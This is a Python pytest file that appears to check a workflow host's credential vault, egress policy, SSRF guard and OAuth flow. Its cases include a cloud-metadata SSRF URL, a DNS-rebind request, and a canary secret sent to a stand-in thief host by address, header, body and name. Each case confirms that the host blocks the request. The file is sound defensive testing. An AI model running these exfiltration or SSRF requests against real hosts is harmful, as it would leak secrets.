"""Calls out and credentials (RFC 0076 B, 0079) on a host that says it guards them. The scenarios' own checks are in
`test_scenarios.py`; here is what they leave open."""

from __future__ import annotations

import uuid
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.contracts.openwop.conftest import Api
from tests.contracts.openwop.documents import node, workflow

PATH = "/host/v1/credentials"
VALUE = "canary-7d4b1a9f30"


@pytest.fixture(autouse=True)
def _offered(capabilities: dict[str, Any]) -> None:
    if not (capabilities.get("httpClient", {}).get("egressPolicy") or {}).get("supported"):
        pytest.skip("this host has no egress policy")


def put(api: Api, name: str, **more: Any) -> Any:
    return api.http.put(f"{PATH}/{name}", json={"value": VALUE, "audiences": ["api.example.com"], **more})


def test_the_document_says_which_decisions_there_are(capabilities: dict[str, Any]) -> None:
    client = capabilities["httpClient"]
    assert client["safeFetch"] == {"supported": True} and client["ssrfGuard"] is True
    assert set(client["egressPolicy"]["decisions"]) == {"allowed", "denied", "downgraded", "approval-required"}


def test_a_value_is_written_and_never_read(api: Api) -> None:
    name = f"suite-{uuid.uuid4().hex[:8]}"
    made = put(api, name, scopes=["charge"], expiresAt="2099-01-01T00:00:00Z", workflows=["pay-*"])
    assert made.status_code == 200, made.text
    shown = made.json()["result"]
    assert shown["credentialId"] == name and shown["expiresAt"] == "2099-01-01T00:00:00.000Z"
    listed = api.get(PATH)
    assert shown in listed.json()["result"]["credentials"]
    ledger = api.get("/host/v1/ledger/records", params={"prefix": "credentials/"})
    assert VALUE not in made.text + listed.text + ledger.text
    assert api.http.delete(f"{PATH}/{name}").status_code == 204
    assert api.http.delete(f"{PATH}/{name}").status_code == 404


def test_a_credential_is_its_tenants_alone(api: Api) -> None:
    name = f"suite-{uuid.uuid4().hex[:8]}"
    assert put(api, name).status_code == 200
    other = api.caller("other")
    assert name not in other.get(PATH).text
    assert other.http.delete(f"{PATH}/{name}").status_code == 404
    for caller in ("", "no_scopes", "reader"):
        assert put(api.caller(caller), name).status_code == (403 if caller else 401)
        assert api.caller(caller).get(PATH).status_code == (403 if caller else 401)
    api.http.delete(f"{PATH}/{name}")


@pytest.mark.parametrize(
    "wrong",
    [
        {"audiences": []},
        {"audiences": ["*.com"]},
        {"audiences": ["https://api.example.com/"]},
        {"value": "short"},
        {"value": "with\r\nbreak"},
        {"header": "Content-Length"},
        {"outside": "allow"},
        {"expiresAt": "tomorrow"},
    ],
)
def test_a_credential_that_could_do_harm_is_refused(api: Api, wrong: dict[str, Any]) -> None:
    answer = put(api, "suite-wrong", **wrong)
    assert answer.status_code == 400 and VALUE not in answer.text


def test_a_blocked_call_is_told_and_audited(api: Api) -> None:
    made = api.post("/v1/host/sample/http/safe-fetch", {"url": "http://169.254.169.254/latest/?token=" + VALUE})
    if made.status_code in (404, 405):
        pytest.skip("the test seams are off")
    found = made.json()
    assert found["outcome"] == "blocked" and found["toolReturned"]["causationId"] == found["toolCalled"]["eventId"]
    assert found["toolReturned"]["payload"]["status"] == "forbidden"
    assert VALUE not in str((found["toolCalled"], found["toolReturned"]))
    loops = api.post("/v1/host/sample/http/safe-fetch", {"url": "https://example.com/", "simulateRebindTo": "::1"})
    assert (loops.json()["outcome"], loops.json()["blocked"]) == ("blocked", "ssrf")


def test_a_credential_goes_nowhere_but_to_its_audience(api: Api) -> None:
    path = "/v1/host/sample/egress/decide"
    if api.post(path, {"scenario": "in-audience"}).status_code in (404, 405):
        pytest.skip("the test seams are off")
    attached = {
        scenario: api.post(path, {"scenario": scenario}).json()["credentialAttached"]
        for scenario in ("in-audience", "out-of-audience", "provenance-unevaluable", "canary")
    }
    assert attached == {"in-audience": True, "out-of-audience": False, "provenance-unevaluable": False, "canary": True}


def test_a_sign_in_is_good_once_and_for_who_began(api: Api, capabilities: dict[str, Any]) -> None:
    if not capabilities.get("oauth", {}).get("providers"):
        pytest.skip("this host has no OAuth provider")
    path = "/host/v1/oauth/authorizations"
    provider = capabilities["oauth"]["providers"][0]["id"]
    begun = api.post(path, {"provider": provider, "credentialId": "suite-oauth"})
    assert begun.status_code == 201, begun.text
    shown = begun.json()["result"]
    asked = {name: values[0] for name, values in parse_qs(urlsplit(shown["open"]).query).items()}
    assert asked["code_challenge_method"] == "S256" and asked["redirect_uri"].endswith("/host/v1/oauth/callback")
    back = f"https://anywhere.example/?state={asked['state']}&code=made-up-code"
    for forged in ("https://anywhere.example/?state=x&code=y", "https://anywhere.example/", back + "&state=z"):
        assert api.post(f"{path}:finish", {"address": forged}).status_code == 404
    assert api.caller("other").post(f"{path}:finish", {"address": back}).status_code == 404
    assert api.caller("reader").post(path, {"provider": provider}).status_code == 403
    assert api.caller("").post(path, {"provider": provider}).status_code == 401
    assert api.caller("").get("/host/v1/oauth/callback", params={"state": "x", "code": "y"}).status_code == 404
    used = api.caller("").get("/host/v1/oauth/callback", params={"state": asked["state"], "code": "made-up-code"})
    assert used.status_code == 409 and "made-up-code" not in used.text  # the provider did not know the code
    again = api.caller("").get("/host/v1/oauth/callback", params={"state": asked["state"], "code": "made-up-code"})
    assert again.status_code == 404 and "suite-oauth" not in api.get(PATH).text
    assert api.post(path, {"provider": "no-such"}).status_code == 404


def test_a_leaked_credential_gets_nothing(api: Api) -> None:
    """Somebody who came to know the value, or the name, cannot send it anywhere but to its audience."""
    name = f"suite-{uuid.uuid4().hex[:8]}"
    assert put(api, name, audiences=["api.example.com"], value=VALUE).status_code == 200
    leaks: dict[str, dict[str, Any]] = {
        "in-address": {"url": f"https://thief.example.net/?k={VALUE}"},
        "in-header": {"url": "https://thief.example.net/", "headers": {"x-k": f"Bearer {VALUE}"}},
        "in-body": {"url": "https://thief.example.net/", "method": "POST", "body": {"deep": [VALUE]}},
        "by-name": {"url": "https://thief.example.net/", "credential": name},
    }
    for leak, config in leaks.items():
        run = _ran(api, f"suite-leak-{leak}", config)
        assert run["status"] == "failed" and run["error"]["code"] == "credential_forbidden", (leak, run["error"])
    other = _ran(api.caller("other"), "suite-leak-other", {"url": "https://api.example.com/", "credential": name})
    assert other["status"] == "failed" and other["error"]["code"] == "credential_forbidden", "it is another tenant's"
    assert VALUE not in str(other)
    api.http.delete(f"{PATH}/{name}")


def _ran(api: Api, flow: str, config: dict[str, Any]) -> dict[str, Any]:
    document = workflow(flow, node("send", "core.http", config))
    assert api.http.put(f"/v1/workflows/{flow}", json=document).status_code in (200, 201)
    made = api.post("/v1/runs", {"workflowId": flow})
    assert made.status_code == 201, made.text
    return api.wait(made.json()["runId"])
